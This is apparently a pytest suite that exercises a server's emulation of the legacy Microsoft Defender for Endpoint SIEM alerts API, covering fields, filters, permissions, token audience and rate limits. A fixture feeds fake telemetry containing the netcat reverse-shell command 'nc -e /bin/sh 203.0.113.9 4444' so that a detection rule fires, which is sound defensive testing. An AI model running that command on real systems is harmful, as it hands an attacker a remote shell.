"""The legacy MDE SIEM detections API (shared/reference/mde-api.md section 8) against a real server:
GET /siem/api/alerts on Ward's listener and GET /api/alerts on the separate SIEM listener, flat
detections field by field, the time-window, device-group and tag parameters, permissions and
device-group scoping, and the documented token audience (https://graph.windows.net)."""
import base64
import json
import os
import re
import subprocess
import time
import uuid
from datetime import datetime, timedelta, timezone

import msal
import pytest
import requests

from conftest import MDE_RESOURCE, WARD, Ward, assert_mde_error, checked_api, new_app_token
from sensor_helpers import FakeSensor, onboarding_info, wait_for
from shapes import GOLDEN, check_value
from test_identity import PortAwareSession

GRAPH = "https://graph.windows.net"
PASSWORD = "Correct-Horse-42!"
SIEM = "/siem/api/alerts"
FIELDS = list(GOLDEN["SiemDetection"])


def siem_listener_url(ward):
    """The separate listener's base URL, from the line the server prints when it is bound."""
    def find():
        with open(os.path.join(ward.data_dir, "server.log")) as f:
            m = re.search(r"^ward SIEM API listening on (\S+)$", f.read(), re.M)
        return m.group(1) if m else None
    url = wait_for(find, 15)
    assert url, "the SIEM listener did not announce its address"
    return url


@pytest.fixture(scope="module")
def siem_ward(tmp_path_factory):
    w = Ward(tmp_path_factory.mktemp("siem"), tls=True,
             config={"rateLimits": {"enabled": True, "perMinute": 100000, "perHour": 1000000},
                     "siem": {"listen": "127.0.0.1:0"}})
    w.start()
    yield w
    w.stop()


def nc_reverse_shell(sensor):
    # Matches Ward's built-in Sigma rule "Netcat Binding A Program To A Connection".
    return sensor.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="nc", FolderPath="/usr/bin/nc",
                        ProcessCommandLine="nc -e /bin/sh 203.0.113.9 4444", ProcessId=4242, AccountName="www-data",
                        AccountDomain="web", SHA1="aabbccddee1122334455aabbccddee1122334455")


def alerts_of(ward, token, device, source):
    r = ward.get(f"/api/alerts?$filter=detectionSource eq '{source}'&$expand=evidence", token)
    assert r.status_code == 200, r.text
    return [a for a in r.json()["value"] if a["machineId"] == device]


@pytest.fixture(scope="module")
def env(siem_ward):
    """Two device groups with a device and an EDR alert each, a custom-TI alert, tags, users."""
    w = siem_ward
    admin = w.app_token()
    tag = uuid.uuid4().hex[:6]

    api = checked_api(w, admin)

    users = {n: api("POST", "/api/users", {"userPrincipalName": f"{n}-{tag}@corp.example", "password": PASSWORD})
             for n in ("analyst_a", "analyst_b", "analyst_c", "norole")}
    soc = {k: api("POST", "/api/rbac/usergroups", {"name": f"soc-{k}-{tag}", "members": [users[f"analyst_{k}"]["id"]]})
           for k in "abc"}
    api("POST", "/api/rbac/roles", {"name": f"analyst-{tag}", "permissions": ["ViewData"],
                                    "assignedUserGroups": [g["id"] for g in soc.values()]})
    # One device group per team; group C has no devices, so its analyst sees nothing.
    groups = {k: api("POST", "/api/rbac/devicegroups", {
        "name": f"SIEM {k.upper()}-{tag}", "rank": rank, "rules": {"name": [f"siem-{k}-{tag}-*"]},
        "userGroups": [soc[k]["id"]]}) for rank, k in enumerate("abc", start=1)}

    info = onboarding_info(w, admin)
    sa = FakeSensor(w, info, name=f"siem-a-{tag}-web01.corp.local", tags=[f"prod-{tag}"])
    sb = FakeSensor(w, info, name=f"siem-b-{tag}-db01.corp.local")
    for s in (sa, sb):
        s.enroll()
    api("POST", f"/api/machines/{sb.device_id}/tags", {"Value": f"pci-{tag}", "Action": "Add"})
    ti = api("POST", "/api/indicators", {"indicatorValue": "198.51.100.77", "indicatorType": "IpAddress",
                                         "action": "Alert", "title": f"Bad host {tag}", "description": "e2e",
                                         "severity": "Medium", "generateAlert": True})
    time.sleep(1.5)  # the detector picks indicators up on its next refresh
    assert sa.send([nc_reverse_shell(sa), sa.event("DeviceNetworkEvents", ActionType="ConnectionSuccess",
                                                   RemoteIP="198.51.100.77", RemotePort=443,
                                                   InitiatingProcessFileName="curl")]).json()["accepted"] == 2
    assert sb.send([nc_reverse_shell(sb)]).json()["accepted"] == 1
    edr_a = wait_for(lambda: alerts_of(w, admin, sa.device_id, "WardEdr"), 20)
    edr_b = wait_for(lambda: alerts_of(w, admin, sb.device_id, "WardEdr"), 20)
    ti_a = wait_for(lambda: alerts_of(w, admin, sa.device_id, "CustomTi"), 20)
    assert len(edr_a) == 1 and len(edr_b) == 1 and len(ti_a) == 1, (edr_a, edr_b, ti_a)
    machines = {k: w.get(f"/api/machines/{s.device_id}", admin).json() for k, s in (("a", sa), ("b", sb))}
    assert machines["a"]["rbacGroupId"] == groups["a"]["id"] and machines["b"]["rbacGroupId"] == groups["b"]["id"]
    tokens = {n: w.user_token(u["userPrincipalName"], PASSWORD) for n, u in users.items()}
    return {"ward": w, "admin": admin, "tag": tag, "groups": groups, "sa": sa, "sb": sb, "machines": machines,
            "edr_a": edr_a[0], "edr_b": edr_b[0], "ti_a": ti_a[0], "indicator": ti, "users": users, "tokens": tokens,
            "devices": {sa.device_id, sb.device_id}}


def pull(ward, token, params=None, base=None, path=SIEM):
    url = (base or ward.base) + path
    r = requests.get(url, params=params, headers={"Authorization": "Bearer " + token}, verify=ward.ca, timeout=30)
    assert r.status_code == 200, r.text
    assert r.headers["Content-Type"].startswith("application/json")
    body = r.json()
    assert isinstance(body, list), body  # a bare array, no OData envelope
    return body


def ours(env, detections):
    return [d for d in detections if d["DeviceID"] in env["devices"]]


def by_alert(detections):
    out = {}
    for d in detections:
        out.setdefault(d["AlertId"], []).append(d)
    return out


def parse_time(text):
    # Seven fractional digits, as MDE writes them; Python takes six.
    m = re.match(r"^(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d)(?:\.(\d+))?Z$", text)
    assert m, text
    frac = (m.group(2) or "0").ljust(6, "0")[:6]
    return datetime.strptime(m.group(1), "%Y-%m-%dT%H:%M:%S").replace(tzinfo=timezone.utc) + timedelta(
        microseconds=int(frac))


def iso(dt):
    return dt.strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z"


def test_detections_have_every_field_in_order_with_its_type(env):
    w = env["ward"]
    got = by_alert(ours(env, pull(w, env["admin"])))
    assert set(got) == {env["edr_a"]["id"], env["edr_b"]["id"], env["ti_a"]["id"]}
    for alert_id, parts in got.items():
        for d in parts:
            assert list(d) == FIELDS, list(d)
            for field, kind in GOLDEN["SiemDetection"].items():
                check_value("SiemDetection", field, kind, d[field])
        # One detection per evidence item, numbered from 0, each with its own IocUniqueId.
        evidence = w.get(f"/api/alerts/{alert_id}", env["admin"]).json()["evidence"]
        assert [d["AlertPart"] for d in parts] == list(range(max(1, len(evidence))))
        assert len({d["IocUniqueId"] for d in parts}) == len(parts)
        for d in parts:
            assert d["FullId"] == f"{alert_id}:{d['IocUniqueId']}"


def test_fields_come_from_the_alert_evidence_and_machine(env):
    w, tag = env["ward"], env["tag"]
    alert = env["edr_a"]
    parts = by_alert(pull(w, env["admin"]))[alert["id"]]
    first = parts[0]
    assert first["AlertTitle"] == alert["title"] == "Netcat Binding A Program To A Connection"
    assert first["Severity"] == alert["severity"] and first["Category"] == alert["category"]
    assert first["Description"] == alert["description"]
    assert first["Source"] == "EDR" and first["IoaDefinitionId"] == alert["detectorId"]
    assert first["ComputerDnsName"] == f"siem-a-{tag}-web01.corp.local"
    assert first["MachineName"] == f"siem-a-{tag}-web01"
    assert first["DeviceID"] == env["sa"].device_id
    assert first["MachineGroup"] == env["groups"]["a"]["name"]
    assert first["DeviceCreatedMachineTags"] == f"prod-{tag}" and first["CloudCreatedMachineTags"] == ""
    assert first["InternalIPv4List"] == "10.1.2.3" and first["InternalIPv6List"] == ""
    assert parse_time(first["LastProcessedTimeUtc"]) == parse_time(alert["lastUpdateTime"])
    assert parse_time(first["AlertTime"]) == parse_time(alert["firstEventTime"])
    assert first["LinkToWDATP"] == f"{w.base}/alert/{alert['id']}" == first["LinkToMTP"]
    assert first["IncidentLinkToWDATP"] == f"{w.base}/incidents/byalert?alertId={alert['id']}&source=SIEM"
    assert first["ReportID"] == 1  # the first event this sensor sent
    for empty in ("Actor", "ThreatCategory", "RemediationAction", "Md5", "ExternalId", "CreatorIocName"):
        assert first[empty] == "", empty
    assert first["RemediationIsSuccess"] is None and first["WasExecutingWhileDetected"] is None
    process = next(d for d in parts if d["CommandLine"])
    assert process["CommandLine"] == "nc -e /bin/sh 203.0.113.9 4444"
    assert process["FileName"] == "nc" and process["FilePath"] == "/usr/bin/nc"
    assert process["Sha1"] == process["FileHash"] == "aabbccddee1122334455aabbccddee1122334455"
    assert process["IocName"] == "FileSha1" and process["IocValue"] == process["Sha1"]
    assert process["UserName"] == "www-data" and process["UserDomain"] == "web"
    # Device B carries its cloud tag, not a device tag.
    b = by_alert(pull(w, env["admin"]))[env["edr_b"]["id"]][0]
    assert b["CloudCreatedMachineTags"] == f"pci-{tag}" and b["DeviceCreatedMachineTags"] == ""
    assert b["MachineGroup"] == env["groups"]["b"]["name"]


def test_custom_ti_detections_name_their_indicator(env):
    parts = by_alert(pull(env["ward"], env["admin"]))[env["ti_a"]["id"]]
    assert {d["Source"] for d in parts} == {"CustomerTI"}
    assert {(d["CreatorIocName"], d["CreatorIocValue"]) for d in parts} == {("IpAddress", "198.51.100.77")}
    ip = next(d for d in parts if d["IocName"] == "IpAddress")
    assert ip["IocValue"] == ip["IpAddress"] == "198.51.100.77"
    assert all(d["IoaDefinitionId"] == "" for d in parts)


def test_time_window_parameters(env):
    w, admin = env["ward"], env["admin"]
    alert = env["edr_a"]
    processed = parse_time(by_alert(pull(w, admin))[alert["id"]][0]["LastProcessedTimeUtc"])
    ms = timedelta(milliseconds=1)

    def ids(params):
        return set(by_alert(ours(env, pull(w, admin, params))))

    assert alert["id"] in ids({"sinceTimeUtc": iso(processed)}), "sinceTimeUtc is inclusive"
    assert alert["id"] not in ids({"sinceTimeUtc": iso(processed + ms)})
    assert alert["id"] in ids({"sinceTimeUtc": iso(processed - timedelta(hours=1)), "untilTimeUtc": iso(processed)})
    assert alert["id"] not in ids({"sinceTimeUtc": iso(processed - timedelta(hours=1)), "untilTimeUtc": iso(processed - ms)})
    # MDE's own example: no zone, three fractional digits; names in any case.
    assert alert["id"] in ids({"SINCETIMEUTC": (processed - timedelta(minutes=5)).strftime("%Y-%m-%dT%H:%M:%S.000")})
    assert alert["id"] not in ids({"sincetimeutc": iso(processed + timedelta(minutes=5))})
    # ago: the alerts were raised moments ago, well inside an hour and a day.
    every = {env["edr_a"]["id"], env["edr_b"]["id"], env["ti_a"]["id"]}
    assert ids({"ago": "PT1H"}) == every and ids({"Ago": "P1D"}) == every
    # No parameters: the last two hours.
    assert ids(None) == every
    # limit: the most recent N alerts, every part of each.
    everything = ours(env, pull(w, admin))
    newest = max(everything, key=lambda d: (parse_time(d["LastProcessedTimeUtc"]), d["AlertId"]))["AlertId"]
    limited = pull(w, admin, {"limit": "1"})
    assert {d["AlertId"] for d in limited} == {newest}
    assert len(limited) == len(by_alert(everything)[newest])
    assert len(by_alert(pull(w, admin, {"Limit": "2"}))) == 2


@pytest.mark.parametrize("params, name", [
    ({"sinceTimeUtc": "yesterday"}, "sinceTimeUtc"),
    ({"untilTimeUtc": "2024-13-40T00:00:00Z"}, "untilTimeUtc"),
    ({"ago": "10 minutes"}, "ago"),
    ({"limit": "0"}, "limit"),
    ({"limit": "many"}, "limit"),
    ({"machinegroups": ""}, "machinegroups"),
    ({"ago": "PT1H", "sinceTimeUtc": "2024-01-01T00:00:00Z"}, "sinceTimeUtc"),
    ({"sinceTimeUtc": "2024-01-02T00:00:00Z", "untilTimeUtc": "2024-01-01T00:00:00Z"}, "untilTimeUtc"),
])
def test_bad_parameters_are_400_naming_the_parameter(env, params, name):
    r = env["ward"].get(SIEM, env["admin"], params=params)
    assert_mde_error(r, 400, "InvalidInput")
    assert name in r.json()["error"]["message"]


def test_device_group_and_tag_filters(env):
    w, admin, tag = env["ward"], env["admin"], env["tag"]
    a, b = env["sa"].device_id, env["sb"].device_id
    name_a, name_b = env["groups"]["a"]["name"], env["groups"]["b"]["name"]

    def devices(params):
        return {d["DeviceID"] for d in pull(w, admin, params)}

    assert devices({"machinegroups": name_a}) == {a}
    assert devices({"machinegroups": name_b.upper()}) == {b}
    assert devices([("machinegroups", name_a), ("MachineGroups", name_b)]) == {a, b}
    assert devices({"machinegroups": f"no such group {tag}"}) == set()
    assert devices({"DeviceCreatedMachineTags": f"prod-{tag}"}) == {a}
    assert devices({"CloudCreatedMachineTags": f"pci-{tag}"}) == {b}
    assert devices({"DeviceCreatedMachineTags": f"pci-{tag}"}) == set()  # a cloud tag is not a device tag
    assert devices({"machinegroups": name_a, "CloudCreatedMachineTags": f"pci-{tag}"}) == set()


def test_permissions(env):
    w, admin = env["ward"], env["admin"]
    assert_mde_error(w.get(SIEM), 401, "Unauthorized")
    assert_mde_error(w.get(SIEM, "not-a-token"), 401, "Unauthorized")
    no_alerts = new_app_token(w, admin, ["Machine.Read.All"], prefix="siem-noalert")
    assert_mde_error(w.get(SIEM, no_alerts), 403, "Forbidden")
    for permission in ("Alert.Read.All", "Alert.ReadWrite.All"):
        reader = new_app_token(w, admin, [permission], prefix="siem-reader")
        assert {d["DeviceID"] for d in ours(env, pull(w, reader))} == env["devices"], permission


def test_users_see_only_their_device_groups(env):
    w, tokens = env["ward"], env["tokens"]
    a, b = env["sa"].device_id, env["sb"].device_id
    assert {d["DeviceID"] for d in ours(env, pull(w, tokens["analyst_a"]))} == {a}
    assert {d["DeviceID"] for d in ours(env, pull(w, tokens["analyst_b"]))} == {b}
    # Group C holds no device: its analyst sees nothing, even when naming another group.
    assert ours(env, pull(w, tokens["analyst_c"])) == []
    assert ours(env, pull(w, tokens["analyst_c"], {"machinegroups": env["groups"]["b"]["name"]})) == []
    # Without a role there is no View data; without the Alert.Read scope the token does not reach alerts.
    assert_mde_error(w.get(SIEM, tokens["norole"]), 403, "Forbidden")
    upn = env["users"]["analyst_a"]["userPrincipalName"]
    assert_mde_error(w.get(SIEM, w.user_token(upn, PASSWORD, scope=f"{MDE_RESOURCE}/Machine.Read")), 403, "Forbidden")
    scoped = w.user_token(upn, PASSWORD, scope=f"{MDE_RESOURCE}/Alert.Read")
    assert {d["DeviceID"] for d in ours(env, pull(w, scoped))} == {a}


def graph_token_v1(ward, client_id=None, secret=None):
    # The documented request: v1 client credentials with resource=https://graph.windows.net.
    r = ward.post(f"/{ward.tenant}/oauth2/token", data={
        "resource": GRAPH, "client_id": client_id or ward.creds["clientId"],
        "client_secret": secret or ward.creds["clientSecret"], "grant_type": "client_credentials"})
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["resource"] == GRAPH and body["token_type"] == "Bearer"
    assert {"expires_in", "expires_on", "not_before", "access_token"} <= set(body)
    return body["access_token"]


def test_graph_audience_token_is_for_the_siem_api_only(env):
    w = env["ward"]
    token = graph_token_v1(w)
    claims = json.loads(base64.urlsafe_b64decode(token.split(".")[1] + "=="))
    assert claims["aud"] == GRAPH and "Alert.Read.All" in claims["roles"]
    assert {d["DeviceID"] for d in ours(env, pull(w, token))} == env["devices"]
    assert {d["DeviceID"] for d in ours(env, pull(w, token, base=siem_listener_url(w), path="/api/alerts"))} == env["devices"]
    # Not a token for the rest of the API.
    assert_mde_error(w.get("/api/alerts", token), 401, "Unauthorized")
    assert_mde_error(w.get("/api/machines", token), 401, "Unauthorized")
    # MSAL (v2) asks for the same resource with its /.default scope.
    app = msal.ConfidentialClientApplication(
        w.creds["clientId"], client_credential=w.creds["clientSecret"], authority=f"{w.base}/{w.tenant}",
        validate_authority=False, http_client=PortAwareSession("127.0.0.1", w.port, w.ca))
    result = app.acquire_token_for_client(scopes=[f"{GRAPH}/.default"])
    assert "access_token" in result, result
    assert ours(env, pull(w, result["access_token"]))
    # The audience does not widen permissions: an app without alert permissions is still refused.
    r = w.post("/api/apps", env["admin"], json={"displayName": f"siem-graph-{env['tag']}",
                                                "applicationPermissions": ["Machine.Read.All"]})
    app_id = r.json()["appId"]
    secret = w.post(f"/api/apps/{app_id}/secrets", env["admin"], json={}).json()["secretText"]
    assert_mde_error(w.get(SIEM, graph_token_v1(w, app_id, secret)), 403, "Forbidden")


def test_separate_listener_serves_the_exporter_layout(env):
    w, admin = env["ward"], env["admin"]
    base = siem_listener_url(w)
    assert base.startswith("https://127.0.0.1:")
    params = {"sinceTimeUtc": iso(datetime.now(timezone.utc) - timedelta(hours=1))}
    main = {d["FullId"] for d in ours(env, pull(w, admin, params))}
    assert main and {d["FullId"] for d in ours(env, pull(w, admin, params, base=base, path="/api/alerts"))} == main
    # MDE's own example URL has a trailing slash and repeated machinegroups.
    name_a = env["groups"]["a"]["name"]
    slash = pull(w, admin, [("machinegroups", name_a), ("machinegroups", "FranceMachines")], base=base, path="/api/alerts/")
    assert {d["DeviceID"] for d in slash} == {env["sa"].device_id}
    # Only the SIEM endpoint lives there.
    for path in ("/api/machines", "/healthz", SIEM, "/api/alerts/CreateAlertByReference"):
        r = requests.get(base + path, headers={"Authorization": "Bearer " + admin}, verify=w.ca, timeout=30)
        assert_mde_error(r, 404, "ResourceNotFound")
    assert_mde_error(requests.get(base + "/api/alerts", verify=w.ca, timeout=30), 401, "Unauthorized")
    r = requests.get(base + "/api/alerts", params={"limit": "-1"}, headers={"Authorization": "Bearer " + admin},
                     verify=w.ca, timeout=30)
    assert_mde_error(r, 400, "InvalidInput")


def test_siem_route_is_rate_limited(tmp_path):
    w = Ward(tmp_path / "limited", tls=False,
             config={"rateLimits": {"enabled": True, "perMinute": 100, "perHour": 1500,
                                    "routes": {SIEM: {"perMinute": 2, "perHour": 100}}}})
    w.start()
    try:
        token = w.app_token()
        assert w.get(SIEM, token).status_code == 200
        assert w.get(SIEM, token).status_code == 200
        r = w.get(SIEM, token)
        assert_mde_error(r, 429, "TooManyRequests")
        assert int(r.headers["Retry-After"]) > 0
    finally:
        w.stop()


def test_no_siem_listener_unless_configured(ward):
    with open(os.path.join(ward.data_dir, "server.log")) as f:
        assert "SIEM API listening" not in f.read()


@pytest.mark.parametrize("siem", [{"listen": "nowhere"}, {"listen": 8444}, {"port": "127.0.0.1:0"}])
def test_bad_siem_config_is_refused(tmp_path, siem):
    w = Ward(tmp_path / "badcfg", tls=False, config={"siem": siem})
    out = subprocess.run([WARD, "server", "--data-dir", w.data_dir, "--listen", f"127.0.0.1:{w.port}"],
                         capture_output=True, text=True, timeout=60)
    assert out.returncode != 0 and "siem" in out.stderr, out.stderr


def test_openapi_lists_the_siem_route_without_odata_options(env):
    doc = env["ward"].get("/api/openapi.json", env["admin"]).json()
    op = doc["paths"][SIEM]["get"]
    assert not [p for p in op["parameters"] if p["name"].startswith("$")], op["parameters"]
